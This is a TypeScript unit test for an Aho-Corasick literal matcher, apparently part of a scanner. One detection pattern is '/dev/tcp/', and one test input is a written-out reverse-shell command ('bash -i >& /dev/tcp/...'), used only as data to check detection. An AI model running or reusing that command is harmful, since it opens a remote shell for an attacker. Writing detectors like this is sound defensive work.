import { describe, expect, it } from 'vitest';
import { LiteralSet } from './literals.js';

describe('LiteralSet (Aho-Corasick)', () => {
  const set = new LiteralSet(['he', 'she', 'his', 'hers', 'ünï', '/dev/tcp/'].map((needle) => ({ needle, value: needle })));
  const found = (text: string): string[] => {
    const out = new Set<string>();
    set.scan(text, (v) => out.add(v));
    return [...out].sort();
  };
  it('finds every literal, overlapping ones included', () => {
    expect(found('ushers')).toEqual(['he', 'hers', 'she']);
    expect(found('this')).toEqual(['his']);
    expect(found('bash -i >& /dev/tcp/1.2.3.4/4444')).toEqual(['/dev/tcp/']);
  });
  it('handles characters outside ASCII and text without matches', () => {
    expect(found('xxünïxx')).toEqual(['ünï']);
    expect(found('unix')).toEqual([]);
    expect(set.test('a /dev/tcp/ b')).toBe(true);
    expect(set.test('/dev/tc')).toBe(false);
  });
});
